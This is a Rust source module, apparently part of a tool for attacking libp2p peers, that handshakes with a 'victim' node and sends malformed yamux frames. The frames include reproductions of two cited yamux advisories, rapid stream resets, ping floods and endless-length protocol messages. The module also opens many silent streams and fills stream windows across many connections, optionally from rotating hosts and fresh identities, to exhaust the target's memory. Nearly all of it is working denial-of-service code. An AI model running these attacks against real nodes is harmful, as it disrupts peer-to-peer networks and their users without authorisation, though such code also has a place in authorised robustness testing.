//! Attacks below the streams: frames that no implementation sends, streams without end, and
//! windows that are filled while nobody reads.

use futures::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
use libp2p::core::upgrade::OutboundConnectionUpgrade as _;
use libp2p::identity::Keypair;
use libp2p::multiaddr::Multiaddr;
use libp2p::{noise, tcp};
use serde_json::{Value as Json, json};
use tokio::io::AsyncWriteExt as _;
use tokio::time::{Duration, Instant, timeout};

use super::door::HELLO;
use crate::guest::{DIAL_ME, Guest, HOP, IDENTIFY, KADEMLIA, PING};
use crate::peer::Who;
use crate::report::say;
use crate::{Problem, Stage, peer, ways};
use dtim::mesh::rendezvous::NAME;
use libp2p::swarm::StreamProtocol;

/// The longest that the other side is waited for.
const PATIENCE: Duration = Duration::from_secs(20);
/// What a stream may send before its window is opened further (yamux specification).
const WINDOW: u32 = 256 * 1024;
/// Streams that are left at their first bytes: whoever reads only so many at once before it
/// knows what they are never reads the others.
const HELD: u32 = 20;
/// A message of multistream-select that never ends: its length says 16,383 bytes.
const NEVER_ENDS: [u8; 2] = [0xff, 0x7f];

type Secured = noise::Output<tcp::tokio::TcpStream>;

/// A connection up to the point where yamux begins.
async fn secured(who: &Who, victim: &Multiaddr) -> Result<Secured, Problem> {
    let mut stream = ways::socket(who.from, victim).await?;
    stream.write_all(HELLO).await?;
    let mut stream = tcp::tokio::TcpStream(stream);
    expect(&mut stream, HELLO).await?;
    let config = noise::Config::new(&who.keys)?;
    let (_, mut secured) = timeout(PATIENCE, config.upgrade_outbound(stream, "/noise")).await??;
    let wanted = b"\x13/multistream/1.0.0\n\x0d/yamux/1.0.0\n";
    secured.write_all(wanted).await?;
    secured.flush().await?;
    expect(&mut secured, wanted).await?;
    Ok(secured)
}

async fn expect(stream: &mut (impl AsyncRead + Unpin), wanted: &[u8]) -> Result<(), Problem> {
    let mut said = vec![0; wanted.len()];
    timeout(PATIENCE, stream.read_exact(&mut said)).await??;
    if said == wanted { Ok(()) } else { Err("another protocol was chosen".into()) }
}

/// A frame's header: what, flags (1 begins a stream, 4 ends, 8 resets it), stream, length.
fn frame(kind: u8, flags: u16, stream: u32, length: u32) -> Vec<u8> {
    let head = [&[0, kind][..], &flags.to_be_bytes(), &stream.to_be_bytes()].concat();
    [head, length.to_be_bytes().to_vec()].concat()
}

/// Frames that are wrong; the first two are those of advisories against yamux (GHSA-vxx9-2994-q338,
/// GHSA-4w32-2493-32g7).
fn wrong_frames() -> Vec<(&'static str, Vec<u8>)> {
    let begun = frame(1, 1, 1, 0);
    let (big, body) = (300 * 1024, vec![7; 300 * 1024]);
    let oversize = [frame(0, 1, 1, big), body.clone()].concat();
    let overflow = [begun.clone(), frame(1, 0, 1, u32::MAX), frame(1, 0, 1, u32::MAX)].concat();
    vec![
        ("oversize first frame", oversize),
        ("window overflow", overflow),
        ("another version", [vec![9], frame(0, 1, 1, 0).split_off(1)].concat()),
        ("unknown kind", frame(9, 1, 1, 0)),
        ("all flags", frame(1, 0xffff, 1, 0)),
        ("the other side's stream", frame(1, 1, 2, 0)),
        ("stream zero", frame(0, 1, 0, 0)),
        ("the same stream twice", [begun.clone(), begun.clone()].concat()),
        ("data that never comes", frame(0, 1, 1, u32::MAX)),
        ("a window that is not open", [begun, frame(0, 0, 1, big), body].concat()),
        ("pings", (0..100_000).flat_map(|n| frame(2, 1, 0, n)).collect()),
        ("reset at once", rapid_resets(100_000)),
        ("goodbye and on", [frame(3, 0, 0, 0), frame(1, 1, 1, 0)].concat()),
        ("noise", noise(100_000)),
    ]
}

/// The same numbers each time, without a pattern.
fn noise(count: u32) -> Vec<u8> {
    (0..count).flat_map(|n| n.wrapping_mul(2_654_435_761).to_be_bytes()).collect()
}

/// Streams that are begun and reset.
fn rapid_resets(count: u32) -> Vec<u8> {
    (0..count)
        .flat_map(|n| [frame(1, 1, 2 * n + 1, 0), frame(1, 8, 2 * n + 1, 0)].concat())
        .collect()
}

/// Messages that no protocol has: with a length that does not end, too long, empty, torn.
fn wrong_messages() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("endless length", vec![0xff; 64]),
        ("a length of 256 MiB", [vec![0xff, 0xff, 0xff, 0x7f], vec![7; 1024]].concat()),
        ("nothing", vec![0]),
        ("torn", vec![100, 8, 0]),
        ("groups within groups", [vec![0xc0, 0x07], [0x0b].repeat(960)].concat()),
        ("noise", noise(500)),
    ]
}

/// Sends each of them on a connection of its own, and says what came of it.
pub(crate) async fn malformed(stage: &Stage) -> Result<(), Problem> {
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let victim = stage.victim()?;
    for (what, bytes) in wrong_frames() {
        let mut stream = secured(&who, victim).await?;
        // It may be closed in the middle of it.
        stream.write_all(&bytes).await.ok();
        stream.flush().await.ok();
        told("frames", what, ends(&mut stream).await);
    }
    let push = StreamProtocol::new("/ipfs/id/push/1.0.0");
    for protocol in [IDENTIFY, push, PING, NAME, HOP, DIAL_ME, KADEMLIA] {
        for (what, bytes) in wrong_messages() {
            let guest = Guest::connect(&who, victim, &[]).await?;
            let Ok(mut stream) = guest.open(protocol.clone()).await else {
                told(protocol.as_ref(), what, Ok(json!("no such protocol")));
                break;
            };
            stream.write_all(&bytes).await.ok();
            stream.close().await.ok();
            told(protocol.as_ref(), what, ends(&mut stream).await);
        }
    }
    Ok(())
}

fn told(where_: &str, what: &str, outcome: Result<Json, Problem>) {
    let outcome = outcome.unwrap_or_else(|why| why.to_string().into());
    say(&json!({ "event": "malformed", "where": where_, "what": what, "outcome": outcome }));
}

/// Reads until the other side ends or says nothing more.
async fn ends(stream: &mut (impl AsyncRead + Unpin)) -> Result<Json, Problem> {
    const QUIET: Duration = Duration::from_secs(1);
    let (mut bytes, mut chunk) = (0, vec![0; 65_536]);
    loop {
        match timeout(QUIET, stream.read(&mut chunk)).await {
            Ok(Ok(0) | Err(_)) => return Ok(json!({ "closed": true, "bytes": bytes })),
            Ok(Ok(count)) => bytes += count,
            Err(_) => return Ok(json!({ "closed": false, "bytes": bytes })),
        }
    }
}

/// Begins so many streams on a connection and says nothing on them.
pub(crate) async fn silent(stage: &Stage, streams: u32) -> Result<(), Problem> {
    let who = Who { keys: peer::identity(stage.seed)?, from: stage.from };
    let mut stream = secured(&who, stage.victim()?).await?;
    let begun: Vec<u8> = (0..streams).flat_map(|n| frame(1, 1, 2 * n + 1, 0)).collect();
    stream.write_all(&begun).await.ok();
    stream.flush().await.ok();
    say(&json!({ "event": "began" }));
    let start = Instant::now();
    let closed = timeout(PATIENCE, async {
        let mut chunk = [0; 4096];
        while let Ok(1..) = stream.read(&mut chunk).await {}
    });
    let closed = closed.await.is_ok();
    let seconds = start.elapsed().as_secs_f64();
    say(&json!({ "event": "silent", "streams": streams, "closed": closed, "seconds": seconds }));
    crate::unwanted().await;
    drop(stream);
    Ok(())
}

/// On so many connections fills the windows of so many streams, on which nothing can be read
/// to its end.
pub(crate) async fn inflate(
    stage: &Stage,
    connections: u32,
    streams: u32,
    hosts: u32,
) -> Result<(), Problem> {
    let (mut sent, mut refused, mut open) = (0, 0, Vec::new());
    for number in 0..connections {
        let from =
            if hosts > 0 { Some(ways::host(stage.from, number % hosts)) } else { stage.from };
        let keys =
            if hosts > 0 { Keypair::generate_ed25519() } else { peer::identity(stage.seed)? };
        let Ok(mut stream) = secured(&Who { keys, from }, stage.victim()?).await else {
            refused += 1;
            continue;
        };
        sent += fill(&mut stream, streams).await;
        open.push(stream);
    }
    say(&json!({
        "event": "inflated",
        "connections": open.len(),
        "refused": refused,
        "bytes": sent,
    }));
    crate::unwanted().await;
    drop(open);
    Ok(())
}

async fn fill(stream: &mut Secured, streams: u32) -> usize {
    const ENOUGH: Duration = Duration::from_secs(2);
    let mut sent = 0;
    let begun: Vec<u8> = (0..streams)
        .flat_map(|n| [frame(0, 1, 2 * n + 1, 2), NEVER_ENDS.to_vec()].concat())
        .collect();
    if stream.write_all(&begun).await.is_err() {
        return sent;
    }
    let body = vec![7; 256 * 1024 - NEVER_ENDS.len()];
    // Those that are read first never end, and keep the others from their turn.
    for n in (HELD..streams).rev() {
        let data = [frame(0, 0, 2 * n + 1, WINDOW - 2), body.clone()].concat();
        match timeout(ENOUGH, stream.write_all(&data)).await {
            Ok(Ok(())) => sent += body.len(),
            Ok(Err(_)) | Err(_) => break,
        }
    }
    timeout(ENOUGH, stream.flush()).await.ok();
    sent
}
